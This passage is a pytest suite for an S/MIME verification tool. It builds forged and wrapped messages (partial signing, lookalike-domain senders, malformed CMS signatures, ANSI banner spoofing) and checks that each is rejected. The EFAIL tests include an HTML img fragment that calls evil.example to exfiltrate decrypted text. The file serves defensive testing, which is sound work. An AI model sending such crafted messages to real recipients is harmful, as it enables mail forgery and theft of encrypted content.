"""Attacks on S/MIME readers, each built from real mailseal-signed or -encrypted material.

The attack classes of "Johnny, you are fired" (USENIX Security 2019: partial
signing by MIME wrapping, weak signer-to-sender binding, CMS edge cases, UI
redressing), EFAIL (direct exfiltration through multipart concatenation and
CBC gadgets) and the key-update abuse of "Mailto: Me Your Secrets".  Every
test builds the attack message itself and asserts the verdict the README
documents: exit code and JSON (`smime-verify --json`), the `--display` page
a reader sees, and what `smime-import` learns.  CMS variants are rewritten
with asn1crypto and, where the point is a structure that would otherwise be
valid, re-signed with the person's own key.
"""

import base64
import hashlib
import json
import re
import unicodedata
from types import SimpleNamespace

import pytest
from asn1crypto import cms
from asn1crypto import x509 as ax509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding

from tests import pki
from tests.conftest import Home, message, read, tb
from tests.mail import der, signed_message

TRUSTED, UNTRUSTED, MISMATCH, EXPIRED, CHANGED, BAD, UNSIGNED = range(7)
NOT_ENCRYPTED, DECRYPTION_FAILED = 24, 23

MALLORY = "mallory@evil.example"
#: "example.org" with a Cyrillic "а" (U+0430) in place of the Latin "a"
LOOKALIKE_DOMAIN = "ex\u0430mple.org"


# --- homes and people -------------------------------------------------------------------------

@pytest.fixture(scope="module")
def world(tmp_path_factory, ca, people):
    """Alice's home (her identity, the CA, Bob's certificate) to sign and encrypt with the real programs;
    Bob's home (his identity, the CA trusted) to read with, nothing else on record; Mallory, whose
    certificate the same trusted CA issued for his own address; an unknown CA."""
    base = tmp_path_factory.mktemp("attacks")
    files = base / "files"
    files.mkdir()
    alice, bob = Home(base / "alice"), Home(base / "bob")
    alice.import_identity(people["alice"], files)
    bob.import_identity(people["bob"], files)
    for home in (alice, bob):
        home.install(ca.pem(), files, "ca.pem", ca=True)
    alice.install(people["bob"].cert_pem(), files, "bob-cert.pem")
    return SimpleNamespace(alice=alice, bob=bob, files=files, mallory=ca.issue(MALLORY),
                           unknown_ca=pki.CA(cn="Unknown CA"))


def no_traceback(result):
    assert b"Traceback" not in result.stderr, result.stderr.decode(errors="replace")


def verify(home, raw, *args):
    """(exit code, JSON report) of smime-verify --json."""
    result = home.run("smime-verify", "--json", *args, input=raw)
    no_traceback(result)
    assert result.stdout.startswith(b"{"), (result.returncode, result.stderr.decode(errors="replace"))
    return result.returncode, json.loads(result.stdout)


def shown(home, raw, program="smime-verify"):
    """The lines of PROGRAM --display (always exit 0)."""
    args = ("--passphrase-file", home.passfile) if program == "smime-decrypt" else ()
    result = home.run(program, "--display", *args, input=raw)
    no_traceback(result)
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    return result.stdout.decode("utf-8", "replace").split("\n")


def decrypt_report(home, raw):
    """(exit code, JSON report or None, stdout) of smime-decrypt --verify --json."""
    result = home.run("smime-decrypt", "--verify", "--json", "--passphrase-file", home.passfile, input=raw)
    no_traceback(result)
    lines = result.stderr.decode(errors="replace").strip().splitlines()
    report = json.loads(lines[-1]) if lines and lines[-1].startswith("{") else None
    return result.returncode, report, result.stdout


def trust_json(home, *args):
    result = home.run("smime-trust", *args, "--json")
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    return json.loads(result.stdout)


def import_json(home, raw):
    result = home.run("smime-import", "--json", input=raw)
    no_traceback(result)
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    return json.loads(result.stdout)


def fingerprint(person):
    return person.cert.fingerprint(hashes.SHA256()).hex()


SIGNED_BODY = "Hello Bob,\n\nthe plan stands: 100 EUR to account 12345.\n\nAlice\n"


def signed_by_alice(world, body=SIGNED_BODY, **kw):
    """A real message, multipart/signed by Alice with smime-sign (LF line endings)."""
    raw = world.alice.ok("smime-sign", "--passphrase-file", world.alice.passfile, input=message(body=body, **kw))
    return raw.replace(b"\r\n", b"\n")


# --- MIME plumbing (deliberately not mailseal's own) -------------------------------------------

def split(raw):
    """(header block, body) of a message, LF line endings."""
    raw = raw.replace(b"\r\n", b"\n")
    head, _, body = raw.partition(b"\n\n")
    return head + b"\n", body


def entity_of(raw):
    """A message as a MIME part: its Content-* header fields (with their folded lines) and its body."""
    head, body = split(raw)
    keep, fields = False, []
    for line in head.splitlines(keepends=True):
        if line[:1] in (b" ", b"\t"):
            if keep:
                fields.append(line)
            continue
        keep = line.lower().startswith(b"content-")
        if keep:
            fields.append(line)
    return b"".join(fields) + b"\n" + body


def text_part(text, ctype="text/plain"):
    return f"Content-Type: {ctype}; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{text}".encode()


def multipart(parts, subtype="mixed", frm="Alice <alice@example.org>", subject="The plan", boundary="outer-7f3a9",
              extra=b""):
    """An unsigned multipart message around the given parts (bytes, each a MIME entity)."""
    out = (f"From: {frm}\nTo: bob@example.org\nSubject: {subject}\nDate: Mon, 02 Nov 2026 10:00:00 +0000\n"
           f"Message-ID: <wrapped-{boundary}@example.org>\nMIME-Version: 1.0\n"
           f"Content-Type: multipart/{subtype}; boundary=\"{boundary}\"\n").encode() + extra + b"\n"
    for part in parts:
        out += f"--{boundary}\n".encode() + part.rstrip(b"\n") + b"\n"
    return out + f"--{boundary}--\n".encode()


def smime_entity(der_bytes, smime_type, name="smime.p7m"):
    b64 = base64.encodebytes(der_bytes).decode()
    return (f"Content-Type: application/pkcs7-mime; smime-type={smime_type}; name={name}\n"
            f"Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename={name}\n\n{b64}").encode()


def rfc822_part(raw):
    return b"Content-Type: message/rfc822\nContent-Disposition: inline\n\n" + raw.replace(b"\r\n", b"\n")


def banner_of(lines):
    return lines[0]


def content_of(lines):
    """What --display shows below its banner, details and rule."""
    rule = next(i for i, line in enumerate(lines) if line.startswith("─" * 10))
    return lines[rule + 1:]


# --- 1. partial signing: a signed part inside an unsigned message -------------------------------

ATTACKER_TEXT = "P.S. the account changed: pay to 99999 at Evil Bank instead.\n"


def _partial_signed_next_to_footer(world):
    return multipart([entity_of(signed_by_alice(world)), text_part(ATTACKER_TEXT)]), "1"


def _partial_attacker_text_first(world):
    return multipart([text_part(ATTACKER_TEXT), entity_of(signed_by_alice(world))]), "2"


def _partial_opaque_in_mixed(world):
    opaque = world.alice.ok("smime-sign", "--opaque", "--passphrase-file", world.alice.passfile,
                            input=message(body=SIGNED_BODY))
    return multipart([text_part(ATTACKER_TEXT), entity_of(opaque)]), "2"


def _partial_forwarded_rfc822(world):
    return multipart([text_part(ATTACKER_TEXT), rfc822_part(signed_by_alice(world))]), "2"


def _partial_forwarded_by_mallory(world):
    return multipart([text_part("Alice asked me to tell you: " + ATTACKER_TEXT), rfc822_part(signed_by_alice(world))],
                     frm=f"Mallory <{MALLORY}>"), "2"


def _partial_in_alternative(world):
    # the unsigned alternative is the one a reader picks to show
    return multipart([entity_of(signed_by_alice(world)), text_part(ATTACKER_TEXT)], subtype="alternative"), "1"


def _partial_nested_two_deep(world):
    inner = multipart([entity_of(signed_by_alice(world)), text_part(ATTACKER_TEXT)], boundary="inner-2b7c")
    return multipart([text_part("see below\n"), entity_of(inner)]), "2.1"


PARTIAL = {
    "signed-part-then-footer": _partial_signed_next_to_footer,
    "attacker-text-then-signed-part": _partial_attacker_text_first,
    "opaque-signed-part-in-mixed": _partial_opaque_in_mixed,
    "signed-message-rfc822-attachment": _partial_forwarded_rfc822,
    "signed-rfc822-forwarded-by-mallory": _partial_forwarded_by_mallory,
    "signed-part-in-alternative": _partial_in_alternative,
    "signed-part-two-levels-down": _partial_nested_two_deep,
}


@pytest.mark.parametrize("case", sorted(PARTIAL))
def test_partially_signed_message_is_never_trusted_as_a_whole(world, case):
    raw, path = PARTIAL[case](world)
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("unsigned", UNSIGNED), report
    assert report["layers"] == [] and report["signer"] is None
    # the signed part is reported, with its own (trusted) verdict and where it is
    signed = [p for p in report["parts"] if p.get("verdict")]
    assert [p["part"] for p in signed] == [path], report["parts"]
    assert signed[0]["verdict"] == "trusted" and "alice@example.org" in signed[0]["signer"]["emails"]
    assert any(f"part {path}" in r and "signed" in r for r in report["reasons"]), report["reasons"]
    # what a reader sees: the real verdict first, naming the signed part
    lines = shown(world.bob, raw)
    assert banner_of(lines).startswith("[mailseal] - unsigned"), lines[:3]
    assert f"only part {path} is signed" in banner_of(lines) and "alice@example.org" in banner_of(lines)
    assert not any(line.startswith("[mailseal] ✓") for line in lines)


_MARKER = re.compile(r"signed", re.I)


@pytest.mark.parametrize("case", sorted(PARTIAL))
def test_display_tells_which_text_is_the_signed_part(world, case):
    """The banner names the signed part by number, but the content below shows no part numbers: the
    reader must see, in the content, where the signed text is and that the attacker's text is not.
    Each shown text is headed (since the other text) by a line saying signed / not signed."""
    raw, _ = PARTIAL[case](world)
    content = content_of(shown(world.bob, raw))
    signed_at = [i for i, line in enumerate(content) if "100 EUR to account 12345" in line]
    attacker_at = [i for i, line in enumerate(content) if "Evil Bank" in line]
    assert attacker_at, content

    def heading(index, other):
        """The marker lines between the nearest line of the other text above index and index."""
        start = max([i for i in other if i < index], default=-1) + 1
        return [line for line in content[start:index]
                if _MARKER.search(line) and "Evil Bank" not in line and "12345" not in line]

    for index in attacker_at:
        markers = heading(index, signed_at)
        assert any(re.search(r"not signed|unsigned", m, re.I) for m in markers), (case, content)
    for index in signed_at:
        markers = heading(index, attacker_at)
        assert any("alice@example.org" in m and not re.search(r"not signed|unsigned", m, re.I)
                   for m in markers), (case, content)


def test_partially_signed_message_teaches_nothing(world, bob):
    """smime-import learns nothing from a signed part inside an unsigned message (bob: a fresh home)."""
    raw, _ = _partial_signed_next_to_footer(world)
    summary = import_json(bob, raw)
    assert summary["imported"] == summary["updated"] == 0, summary
    assert trust_json(bob, "list", "alice@example.org")["certificates"] == []


# --- 2. binding the signer to the sender ----------------------------------------------------------

def _with_from(raw, *from_lines):
    """raw (a signed message) with its From field(s) replaced by the given lines (bytes, no newline)."""
    head, body = split(raw)
    lines = [line for line in head.split(b"\n") if line and not line.lower().startswith(b"from:")]
    return b"\n".join([*from_lines, *lines]) + b"\n\n" + body


def test_from_differs_from_every_address_in_the_certificate(world, people):
    raw = _with_from(signed_message(people["alice"]), b"From: Boss <boss@example.org>")
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("mismatch", MISMATCH)
    assert report["from"] == ["boss@example.org"] and "boss@example.org" in report["reasons"][0]
    assert report["signer"]["emails"] == ["alice@example.org"]
    assert shown(world.bob, raw)[0].startswith("[mailseal] ! mismatch")


@pytest.mark.parametrize("from_lines", [
    [b"From: alice@example.org, mallory@evil.example"],
    [b"From: mallory@evil.example, Alice <alice@example.org>"],
    [b"From: alice@example.org", b"From: mallory@evil.example"],
    [b"From: mallory@evil.example", b"From: alice@example.org"],
], ids=["two-in-one-field-alice-first", "two-in-one-field-mallory-first", "two-fields-alice-first",
        "two-fields-mallory-first"])
def test_two_from_addresses_are_a_mismatch(world, people, from_lines):
    raw = _with_from(signed_message(people["alice"]), *from_lines)
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("mismatch", MISMATCH), report
    assert sorted(report["from"]) == ["alice@example.org", MALLORY]


def test_sender_naming_the_signer_does_not_bind_a_different_from(world):
    """Mallory signs, puts himself in Sender and Alice in From: the signature vouches for Mallory only."""
    raw = _with_from(signed_message(world.mallory), b"From: Alice <alice@example.org>",
                     f"Sender: {MALLORY}".encode())
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("mismatch", MISMATCH), report
    assert report["from"] == ["alice@example.org"] and report["signer"]["emails"] == [MALLORY]


def _display_name_trick(signer):
    return _with_from(signed_message(signer), f'From: "alice@example.org" <{MALLORY}>'.encode())


def test_display_name_trick_by_an_unknown_signer(world):
    """Mallory with a certificate of his own making: never trusted, and From is his address."""
    raw = _display_name_trick(pki.self_signed(MALLORY))
    code, report = verify(world.bob, raw)
    assert report["from"] == [MALLORY]
    assert (report["verdict"], code) == ("untrusted", UNTRUSTED), report
    assert "alice@example.org" not in shown(world.bob, raw)[0]


def test_display_name_trick_by_a_signer_of_the_trusted_ca(world):
    """Mallory's certificate comes from the CA Bob trusts, but for mallory@evil.example; the From field
    shows "alice@example.org" as its display name.  A reader (mutt's index, aerc's header) shows that
    name: the signature must not come out as "trusted" next to it."""
    raw = _display_name_trick(world.mallory)
    code, report = verify(world.bob, raw)
    assert report["from"] == [MALLORY]
    assert report["verdict"] in ("mismatch", "untrusted"), report
    assert code in (MISMATCH, UNTRUSTED)


@pytest.mark.parametrize("frm", [b"From: Alice@Example.ORG", b"From: ALICE@EXAMPLE.ORG",
                                 b"From: \"Alice\" <alice@EXAMPLE.org.>"],
                         ids=["mixed-case", "upper-case", "trailing-dot"])
def test_case_variants_of_the_signers_address_are_trusted(world, people, frm):
    raw = _with_from(signed_message(people["alice"]), frm)
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("trusted", TRUSTED), report
    assert report["from"] == ["alice@example.org"]


def test_lookalike_domain_signed_by_alice_is_not_alice(world, people):
    """From alice@exаmple.org (Cyrillic а), signed with Alice's real certificate: not her address."""
    raw = _with_from(signed_message(people["alice"]), f"From: Alice <alice@{LOOKALIKE_DOMAIN}>".encode())
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("mismatch", MISMATCH), report
    assert report["from"] != ["alice@example.org"]


def test_lookalike_domain_certificate_is_never_alice(world, ca):
    """Mallory got a certificate for alice@exаmple.org (A-label in the SAN) from the trusted CA.  Whatever
    the verdict, it binds to that other address, and what is shown tells it apart from example.org."""
    alabel = LOOKALIKE_DOMAIN.encode("idna").decode()
    assert alabel.startswith("xn--")
    lookalike = ca.issue(f"alice@{alabel}")
    raw = _with_from(signed_message(lookalike), f"From: Alice <alice@{LOOKALIKE_DOMAIN}>".encode())
    code, report = verify(world.bob, raw)
    assert report["from"] == [f"alice@{alabel}"], report["from"]
    assert "alice@example.org" not in report["from"] and "alice@example.org" not in report["signer"]["emails"]
    banner = shown(world.bob, raw)[0]
    assert "alice@example.org" not in banner and alabel in banner


def _protected_from_of_mallory(world):
    """Mallory signs an entity whose protected From (RFC 9788, hp="clear") is his own, and sends it with
    From: Alice outside."""
    content = (b'Content-Type: text/plain; charset=us-ascii; hp="clear"\r\nFrom: Mallory <mallory@evil.example>\r\n'
               b"Subject: The plan\r\n\r\nPay 100 EUR to account 99999.\r\n")
    return as_signed_message(sign_der(world.mallory, content), content=content, frm="Alice <alice@example.org>")


def test_protected_from_of_another_signer_does_not_vouch_for_the_outer_from(world):
    """mailseal binds the signature to the protected From (Mallory's); mail clients, notmuch and scripts
    show and index the outer From (Alice's).  The verdict must not be "trusted" (exit 0) for a message
    whose From, as reported in the JSON, is Alice."""
    raw = _protected_from_of_mallory(world)
    code, report = verify(world.bob, raw)
    assert report["signer"]["emails"] == [MALLORY]
    assert any("outer From" in n for n in report["notes"]), report["notes"]
    assert not (report["verdict"] == "trusted" and "alice@example.org" in report["from"]), \
        (report["verdict"], code, report["from"])


def test_protected_from_of_another_signer_teaches_nothing_for_the_outer_from(world, bob):
    """smime-import learns only from a signer whose certificate carries the From address: Mallory's
    certificate must not be recorded for alice@example.org."""
    import_json(bob, _protected_from_of_mallory(world))
    assert trust_json(bob, "list", "alice@example.org")["certificates"] == []


@pytest.mark.parametrize("where", ["preamble", "epilogue"])
def test_text_outside_the_signed_parts_is_not_shown_as_signed(world, where):
    """The preamble and epilogue of multipart/signed are covered by no signature: an attacker may write
    there without breaking Alice's signature, so what is shown must not include it."""
    raw = signed_by_alice(world)
    head, body = split(raw)
    if where == "preamble":
        body = ATTACKER_TEXT.encode() + b"\n" + body
    else:
        body = body.rstrip(b"\n") + b"\n" + ATTACKER_TEXT.encode()
    forged = head + b"\n" + body
    code, report = verify(world.bob, forged)
    assert (report["verdict"], code) == ("trusted", TRUSTED), report
    page = "\n".join(shown(world.bob, forged))
    assert "Evil Bank" not in page and "100 EUR to account 12345" in page


# --- 3. CMS edge cases ------------------------------------------------------------------------------

CONTENT = b"Content-Type: text/plain; charset=us-ascii\r\n\r\nPay 100 EUR to account 12345.\r\n"
OTHER_CONTENT = b"Content-Type: text/plain; charset=us-ascii\r\n\r\nPay 100 EUR to account 99999.\r\n"


def sign_der(person, content=CONTENT, detached=True, **kw):
    from mailseal.cms import signed

    return b"".join(signed.sign(content, person.key, der(person.cert), [der(person.ca.cert)], detached=detached, **kw))


def as_signed_message(sig, content=CONTENT, frm="alice@example.org"):
    """A multipart/signed message of content (canonical CRLF) and the DER signature sig."""
    b64 = base64.encodebytes(sig).decode().replace("\n", "\r\n")
    raw = (f"From: {frm}\r\nTo: bob@example.org\r\nSubject: edge\r\nMIME-Version: 1.0\r\n"
           "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256;"
           " boundary=\"edge-b\"\r\n\r\n--edge-b\r\n").encode() + content + (
        "\r\n--edge-b\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{b64}--edge-b--\r\n").encode()
    return raw


def as_opaque_message(sig, frm="alice@example.org"):
    b64 = base64.encodebytes(sig).decode().replace("\n", "\r\n")
    return (f"From: {frm}\r\nTo: bob@example.org\r\nSubject: edge\r\nMIME-Version: 1.0\r\n"
            "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{b64}").encode()


def rewrite(sig, change):
    """sig (DER ContentInfo of SignedData) with change(SignedData) applied, re-encoded."""
    info = cms.ContentInfo.load(sig)
    change(info["content"])
    return info.dump(force=True)


def resign(signer_info, key, attributes):
    """Give signer_info these signed attributes and sign them with key (RSA, SHA-256), as a sender would."""
    signer_info["signed_attrs"] = cms.CMSAttributes(attributes)
    to_sign = b"\x31" + signer_info["signed_attrs"].dump(force=True)[1:]
    signer_info["signature"] = key.sign(to_sign, padding.PKCS1v15(), hashes.SHA256())


def attributes_of(signer_info):
    return [{"type": a["type"].native, "values": [v for v in a["values"]]} for a in signer_info["signed_attrs"]]


def test_untouched_rewrite_is_trusted(world, people):
    """The rewriting below keeps a valid signature valid: each failure is the attack's own doing."""
    sig = rewrite(sign_der(people["alice"]), lambda sd: None)
    for raw in (as_signed_message(sig), as_opaque_message(rewrite(sign_der(people["alice"], detached=False),
                                                                  lambda sd: None))):
        code, report = verify(world.bob, raw)
        assert (report["verdict"], code) == ("trusted", TRUSTED), report
    sd = cms.ContentInfo.load(sign_der(people["alice"]))["content"]
    resign(sd["signer_infos"][0], people["alice"].key, attributes_of(sd["signer_infos"][0]))
    code, report = verify(world.bob, as_signed_message(cms.ContentInfo({"content_type": "signed_data",
                                                                        "content": sd}).dump(force=True)))
    assert (report["verdict"], code) == ("trusted", TRUSTED), report


@pytest.mark.parametrize("form", ["detached", "opaque"])
def test_zero_signers_is_bad(world, people, form):
    """SignerInfos empty, Alice's certificate still carried: nothing vouches for the content."""
    def drop_signers(sd):
        sd["signer_infos"] = cms.SignerInfos([])

    if form == "detached":
        raw = as_signed_message(rewrite(sign_der(people["alice"]), drop_signers))
    else:
        raw = as_opaque_message(rewrite(sign_der(people["alice"], detached=False), drop_signers))
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("bad", BAD), report
    assert any("no signer" in r for r in report["reasons"]), report["reasons"]
    lines = shown(world.bob, raw)
    assert lines[0].startswith("[mailseal] ✗ bad")


@pytest.mark.parametrize("bad_first", [False, True], ids=["good-then-bad", "bad-then-good"])
def test_two_signers_one_good_one_bad_is_bad(world, people, bad_first):
    """Alice's good signature plus Carol's whose value was altered: only as good as the worst."""
    carol = cms.ContentInfo.load(sign_der(people["carol"]))["content"]
    broken = carol["signer_infos"][0]
    value = bytearray(broken["signature"].native)
    value[-1] ^= 0x01
    broken["signature"] = bytes(value)

    def add_carol(sd):
        signers = list(sd["signer_infos"])
        sd["signer_infos"] = cms.SignerInfos([broken, *signers] if bad_first else [*signers, broken])
        sd["certificates"] = cms.CertificateSet([*sd["certificates"], carol["certificates"][0]])

    raw = as_signed_message(rewrite(sign_der(people["alice"]), add_carol))
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("bad", BAD), report
    assert any("signer" in r and "2" in r for r in report["reasons"]), report["reasons"]


def test_signer_certificate_absent_and_not_on_record_is_not_trusted(world, people):
    """Carol's certificate is stripped from the signature and Bob never saw it: nothing can be checked."""
    def strip_certificates(sd):
        del sd["certificates"]

    raw = as_signed_message(rewrite(sign_der(people["carol"]), strip_certificates), frm="carol@example.org")
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("bad", BAD), report
    assert any("certificate" in r and "not on record" in r for r in report["reasons"]), report["reasons"]
    assert not shown(world.bob, raw)[0].startswith("[mailseal] ✓")


def test_certificate_from_a_ca_with_the_trusted_cas_name_is_not_trusted(world, people, ca):
    """An attacker's CA with exactly the trusted CA's name (subject DN) issues a certificate for Alice's
    address: names alone must not make it chain."""
    twin = pki.CA(cn="mailseal Test CA")
    assert twin.cert.subject == ca.cert.subject and twin.cert.fingerprint(hashes.SHA256()) != \
        ca.cert.fingerprint(hashes.SHA256())
    fake = twin.issue("alice@example.org")
    code, report = verify(world.bob, signed_message(fake))
    assert (report["verdict"], code) == ("untrusted", UNTRUSTED), report
    # without the twin in the message, the trusted CA is the only issuer of that name on hand
    code, report = verify(world.bob, signed_message(fake, chain=False))
    assert report["verdict"] == "untrusted"


def _drop(name):
    def change(attrs):
        return [a for a in attrs if a["type"] != name]
    return change


def _duplicate(name, other=None):
    def change(attrs):
        original = next(a for a in attrs if a["type"] == name)
        copy = {"type": name, "values": [other] if other is not None else list(original["values"])}
        return attrs + [copy]
    return change


def _replace(name, value):
    def change(attrs):
        return [dict(a, values=[value]) if a["type"] == name else a for a in attrs]
    return change


def _two_values(name, value):
    def change(attrs):
        return [dict(a, values=[*a["values"], value]) if a["type"] == name else a for a in attrs]
    return change


ATTRIBUTE_ATTACKS = {
    "message-digest-missing": _drop("message_digest"),
    "content-type-missing": _drop("content_type"),
    "message-digest-duplicated": _duplicate("message_digest"),
    "message-digest-duplicated-other-value": _duplicate("message_digest",
                                                        hashlib.sha256(OTHER_CONTENT).digest()),
    "message-digest-two-values": _two_values("message_digest", hashlib.sha256(OTHER_CONTENT).digest()),
    "content-type-duplicated": _duplicate("content_type"),
    "content-type-disagrees": _replace("content_type", "signed_data"),
    "content-type-enveloped": _replace("content_type", "enveloped_data"),
}


@pytest.mark.parametrize("form", ["detached", "opaque"])
@pytest.mark.parametrize("attack", sorted(ATTRIBUTE_ATTACKS))
def test_malformed_signed_attributes_resigned_by_the_signer_are_bad(world, people, attack, form):
    """Each structure is signed again with Alice's key, so only its shape can make it fail."""
    def change(sd):
        si = sd["signer_infos"][0]
        resign(si, people["alice"].key, ATTRIBUTE_ATTACKS[attack](attributes_of(si)))

    if form == "detached":
        raw = as_signed_message(rewrite(sign_der(people["alice"]), change))
    else:
        raw = as_opaque_message(rewrite(sign_der(people["alice"], detached=False), change))
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("bad", BAD), report
    assert report["reasons"], report


@pytest.mark.parametrize("embedded", ["other-content", "same-content"])
def test_econtent_inside_a_detached_signature_is_bad(world, people, embedded):
    """The p7s of a multipart/signed embeds the content it signed (opaque form).  With other content,
    a reader checking the embedded content would show the visible part under Alice's name."""
    signed_content = OTHER_CONTENT if embedded == "other-content" else CONTENT
    sig = sign_der(people["alice"], signed_content, detached=False)
    raw = as_signed_message(sig, content=CONTENT)
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("bad", BAD), report
    assert any("embeds content" in r for r in report["reasons"]), report["reasons"]
    lines = shown(world.bob, raw)
    assert lines[0].startswith("[mailseal] ✗ bad")


@pytest.mark.parametrize("ahead", [pki.DAY * 3, pki.DAY * 3650], ids=["three-days", "ten-years"])
def test_signing_time_in_the_future_is_reported(world, people, ahead):
    """A signing time in the future is not believed: the signature is judged at the current time (the
    certificate is valid now, so the verdict stands), and a note says why -- in the JSON and on screen."""
    raw = signed_message(people["alice"], when=pki.NOW + ahead)
    code, report = verify(world.bob, raw)
    assert (report["verdict"], code) == ("trusted", TRUSTED), report
    notes = [n for n in report["notes"] if "signing time" in n and "future" in n]
    assert notes, report["notes"]
    lines = shown(world.bob, raw)
    assert any("note:" in line and "future" in line for line in lines[:8]), lines[:8]


# --- 4. UI redressing: a body that imitates mailseal's own banner --------------------------------

_ANSI = re.compile(r"\x1b(\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(\x07|\x1b\\)|[@-Z\\-_])")


def on_screen(line):
    """What a terminal shows of one line: escape sequences and other control characters act instead of
    being shown, invisible format characters (zero-width space, BOM, bidi marks) take no room."""
    line = _ANSI.sub("", line)
    if "\r" in line:  # a carriage return starts over at the left margin
        line = line.split("\r")[-1]
    return "".join(ch for ch in line
                   if unicodedata.category(ch) not in ("Cc", "Cf") and ch not in "\u200b\u2060\ufeff").strip()


@pytest.fixture(scope="module")
def real_banner(world):
    """The exact first line smime-verify --display prints for a message Alice really signed."""
    banner = shown(world.bob, signed_by_alice(world))[0]
    assert banner.startswith("[mailseal] ✓ trusted: signed by alice@example.org")
    return banner


IMITATIONS = {
    "verbatim": lambda b: b,
    "indented": lambda b: "   " + b,
    "zero-width-space": lambda b: "\u200b" + b,
    "byte-order-mark": lambda b: "\ufeff" + b,
    "word-joiner": lambda b: "\u2060" + b,
    "ansi-erase-line": lambda b: "\x1b[2K\x1b[1G" + b,
    "ansi-colour": lambda b: "\x1b[32m" + b + "\x1b[0m",
    "ansi-cursor-home": lambda b: "\x1b[H" + b,
}


@pytest.mark.parametrize("trick", list(IMITATIONS))
def test_body_imitating_the_trusted_banner_cannot_pass_for_it(world, real_banner, trick):
    fake = IMITATIONS[trick](real_banner)
    forged = message(body=fake + "\nPlease wire the money today.\nAlice\n")
    code, report = verify(world.bob, forged)
    assert (report["verdict"], code) == ("unsigned", UNSIGNED)
    lines = shown(world.bob, forged)
    assert lines[0].startswith("[mailseal] - unsigned"), lines[:2]
    body = content_of(lines)
    assert any("Please wire the money" in line for line in body)
    # no line below the real banner reads, on a terminal, like a banner of mailseal's
    assert real_banner not in body
    for line in body:
        assert not on_screen(line).startswith("[mailseal]"), (trick, repr(line))
    # and nothing in the content can move the cursor back over the real banner
    assert not any("\x1b" in line for line in body), (trick, [repr(line) for line in body if "\x1b" in line])


def test_encrypted_body_imitating_the_banner_cannot_pass_for_it(world, real_banner):
    """The same in a message smime-decrypt --display shows: the imitation of a trusted, authenticated
    message inside a CBC message nobody signed."""
    fake = real_banner + " · encrypted (AES-256-GCM, authenticated)"
    encrypted = world.alice.ok("smime-encrypt", "--cipher", "aes256-cbc",
                               input=message(body="\u200b" + fake + "\n" + fake + "\nPay today.\n"))
    lines = shown(world.bob, encrypted, program="smime-decrypt")
    assert lines[0].startswith("[mailseal] - unsigned") and "NOT authenticated" in lines[0], lines[0]
    for line in content_of(lines):
        assert not on_screen(line).startswith("[mailseal]"), repr(line)


# --- 5. EFAIL ----------------------------------------------------------------------------------------

@pytest.fixture
def tb_bob(make_home, tmp_path):
    """Bob of Thunderbird's test data (Bob.p12, password nss), its test CA trusted."""
    home = make_home("tb-bob")
    passfile = tmp_path / "nss-pass"
    passfile.write_text("nss\n")
    home.ok("smime-trust", "identity", "import", "--passphrase-file", str(passfile), tb("Bob.p12"))
    home.ok("smime-trust", "install", "--ca", tb("TestCA.pem"))
    home.passfile = str(passfile)
    return home


def test_efail_bait_and_prey_alternative_from_thunderbird(tb_bob):
    """Thunderbird's attack message: multipart/alternative of two parts each encrypted to Bob, an HTML
    "bait" and the text/plain "prey" (SECRET-TEXT).  Neither may be shown merged with the other."""
    raw = read(tb("multipart-alternative.eml"))
    assert b"SECRET-TEXT" not in raw
    # each part alone is a message Bob can read: the prey is there to be had
    head, body = split(raw)
    prey = body.split(b"----------BOUNDARY\n")[2]
    alone = b"From: Alice <alice@example.com>\nTo: Bob <bob@example.com>\nMIME-Version: 1.0\n" + prey
    assert b"SECRET-TEXT" in tb_bob.ok("smime-decrypt", "--passphrase-file", tb_bob.passfile, input=alone)
    lines = shown(tb_bob, raw, program="smime-decrypt")
    page = "\n".join(lines)
    assert "SECRET-TEXT" not in page, page
    assert lines[0].startswith("[mailseal] - unsigned")
    # plain decryption: the message as a whole is not encrypted, so nothing is decrypted
    result = tb_bob.run("smime-decrypt", "--passphrase-file", tb_bob.passfile, input=raw)
    no_traceback(result)
    assert result.returncode == NOT_ENCRYPTED and b"SECRET-TEXT" not in result.stdout + result.stderr
    code, report, out = decrypt_report(tb_bob, raw)
    assert b"SECRET-TEXT" not in out and "SECRET-TEXT" not in json.dumps(report)
    # smime-verify names the two encrypted parts, unopened
    code, report = verify(tb_bob, raw)
    assert (report["verdict"], code) == ("unsigned", UNSIGNED)
    assert [(p["kind"], p["part"]) for p in report["parts"]] == [("encrypted", "1"), ("encrypted", "2")]
    assert all("cipher" not in p for p in report["parts"])


def _efail_direct(world, subtype):
    secret = world.alice.ok("smime-encrypt", "--cipher", "aes256-cbc",
                            input=message(body="SECRET-TEXT: the launch code is 0000.\n"))
    return multipart([text_part('<html><body><img src="http://evil.example/collect?', "text/html"),
                      entity_of(secret),
                      text_part('"></body></html>', "text/html")], subtype=subtype, frm=f"Alice <{MALLORY}>")


@pytest.mark.parametrize("subtype", ["mixed", "related", "alternative"])
def test_efail_direct_exfiltration_wrapper_releases_nothing(world, subtype):
    """A captured message Alice encrypted to Bob, wrapped by the attacker between two HTML fragments
    that would make an HTML reader send the decrypted text to evil.example."""
    raw = _efail_direct(world, subtype)
    assert b"SECRET-TEXT" not in raw
    for program in ("smime-decrypt", "smime-verify"):
        page = "\n".join(shown(world.bob, raw, program=program))
